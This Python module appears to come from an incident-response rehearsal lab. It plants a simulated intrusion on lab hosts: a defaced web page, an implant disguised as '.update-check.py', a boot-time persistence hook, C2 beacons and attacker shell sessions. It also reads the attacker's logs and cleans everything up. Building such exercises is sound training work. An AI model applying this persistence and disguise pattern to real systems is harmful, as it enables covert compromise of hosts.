"""The rehearsal's intrusion: what an intruder does to a host, how far it still works, and how it is cleaned away.

Decides what is planted and how the attacker's logs are read. Leaves to others: the programs themselves (programs/).
"""

from __future__ import annotations

import time
from collections.abc import Callable
from dataclasses import dataclass

from remedy.core.errors import RemedyError
from remedy.lab import site_content
from remedy.lab.services import PROGRAMS
from remedy.lab.topology import topology

__all__ = ["AttackStatus", "Beacon", "Session", "Target", "start", "status", "stop"]

Exec = Callable[..., tuple[int, bytes, bytes]]

_ATTACKER = topology()["attacker"]
_HOOK = "/etc/rcS.d/S90update-check"
_IMPLANT = "/var/tmp/.update-check.py"  # noqa: S108 - where intruders put things
_PAGE = "/srv/site/page.html"
_TAIL = 4096

#: The boot hook that brings the implant back after a power-cycle; also how it is first started.
_HOOK_TEXT = f"""\
#!/bin/sh
setsid /usr/bin/python3 -I {_IMPLANT} {_ATTACKER.v4} {_ATTACKER.v6} </dev/null >/dev/null 2>&1 &
"""
_END = """
for pid in $(pgrep -f "$0"); do
  [ "$pid" = "$$" ] || kill -9 "$pid" 2>/dev/null
done
exit 0
"""


@dataclass(frozen=True)
class Target:
    """The host under attack, whether it shows a site, and whether the perimeter lets the attacker's sessions in."""

    name: str
    v4: str
    v6: str
    has_site: bool
    has_session: bool


@dataclass(frozen=True)
class Beacon:
    """One way of calling home: `protocol` tcp or udp, `family` 4 or 6; `age` in seconds, None when never heard."""

    protocol: str
    family: int
    source: str
    age: float | None
    heard: bool


@dataclass(frozen=True)
class Session:
    """One of the attacker's shell sessions: whether its last `id` was answered recently, and what it said last."""

    family: int
    address: str
    answers: bool
    age: float | None
    last: str


@dataclass(frozen=True)
class AttackStatus:
    """What the attacker sees of one host."""

    beacons: tuple[Beacon, ...]
    sessions: tuple[Session, ...]

    @property
    def heard(self) -> bool:
        """Whether any beacon got through."""
        return any(beacon.heard for beacon in self.beacons)

    @property
    def session_alive(self) -> bool:
        """Whether any session still answers."""
        return any(session.answers for session in self.sessions)


def start(run: Exec, target: Target, patience: float = 15.0) -> None:
    """Plant everything and return when all beacons are heard and both sessions answer. Raises RemedyError.

    The perimeter lets the attacker in to port 443 of the DMZ only; from elsewhere the beacons call out and there is
    no session.
    """
    stop(run, target)
    if target.has_site:
        _do(run, target.name, ("tee", _PAGE), site_content.DEFACED_PAGE)
    _do(run, target.name, ("cp", f"{PROGRAMS}/implant.py", _IMPLANT))
    _do(run, target.name, ("tee", _HOOK), _HOOK_TEXT)
    _do(run, target.name, ("chmod", "755", _HOOK))
    _do(run, target.name, (_HOOK, "start"))
    if target.has_session:
        _open_sessions(run, target)
    until = time.monotonic() + patience
    while time.monotonic() < until:
        seen = status(run, target, 2.0)
        if all(beacon.heard for beacon in seen.beacons) and all(session.answers for session in seen.sessions):
            return
        time.sleep(0.1)
    raise RemedyError(f"the intrusion did not take hold within {patience:g} s: {seen}", where=target.name)


def _open_sessions(run: Exec, target: Target) -> None:
    intruder = (
        f"setsid python3 -I {PROGRAMS}/intruder.py {target.name} {target.v4} {target.v6} </dev/null >/dev/null 2>&1 &"
    )
    _do(run, "attacker", ("/bin/sh", "-c", intruder))


def stop(run: Exec, target: Target) -> None:
    """Kill the implant and the sessions, remove the files, put the page back, forget the logs."""
    _do(run, "attacker", ("/bin/sh", "-c", _END, f"intruder[.]py {target.name} "))
    _do(run, "attacker", ("rm", "-f", f"/var/log/intruder-{target.name}.log"))
    _do(run, target.name, ("/bin/sh", "-c", _END, "[.]update-check[.]py"))
    _do(run, target.name, ("rm", "-f", _HOOK, _IMPLANT))
    if target.has_site:
        _do(run, target.name, ("tee", _PAGE), site_content.PAGE)


def status(run: Exec, target: Target, within: float) -> AttackStatus:
    """Read the attacker's logs of the last `within` seconds."""
    now = time.time()
    beacons: dict[tuple[str, str], float] = {}
    for when, protocol, address in _fields(run, "/var/log/c2.log"):
        beacons[protocol, address.split(" ")[0]] = when
    said: dict[str, list[tuple[float, str]]] = {target.v4: [], target.v6: []}
    for when, address, text in _fields(run, f"/var/log/intruder-{target.name}.log"):
        said.setdefault(address, []).append((when, text))
    return AttackStatus(
        tuple(
            Beacon(protocol, family, address, _age(beacons.get((protocol, address)), now), heard)
            for protocol in ("tcp", "udp")
            for family, address in ((4, target.v4), (6, target.v6))
            for heard in (now - beacons.get((protocol, address), 0.0) <= within,)
        ),
        tuple(
            _session(family, address, said[address], now, within)
            for family, address in ((4, target.v4), (6, target.v6))
            if target.has_session
        ),
    )


def _session(family: int, address: str, said: list[tuple[float, str]], now: float, within: float) -> Session:
    answers = [when for when, text in said if text.startswith("uid=")]
    latest = answers[-1] if answers else None
    alive = latest is not None and now - latest <= within
    return Session(family, address, alive, _age(latest, now), said[-1][1] if said else "")


def _age(when: float | None, now: float) -> float | None:
    return None if when is None else round(now - when, 3)


def _fields(run: Exec, log: str) -> list[tuple[float, str, str]]:
    """The last lines of an attacker's log, split in three; see programs/c2.py and programs/intruder.py."""
    _, out, _ = run("attacker", ("tail", "-n", str(_TAIL), log))
    rows = []
    for line in out.decode("utf-8", "replace").splitlines():
        when, first, rest = [*line.split(" ", 2), "", ""][:3]
        if rest:
            rows.append((float(when), first, rest))
    return rows


def _do(run: Exec, host: str, argv: tuple[str, ...], stdin: str = "") -> None:
    code, _, err = run(host, argv, stdin.encode())
    if code != 0:
        raise RemedyError(
            f"{' '.join(argv[:2])} ended with {code}: {err.decode('utf-8', 'replace').strip()}", where=host
        )
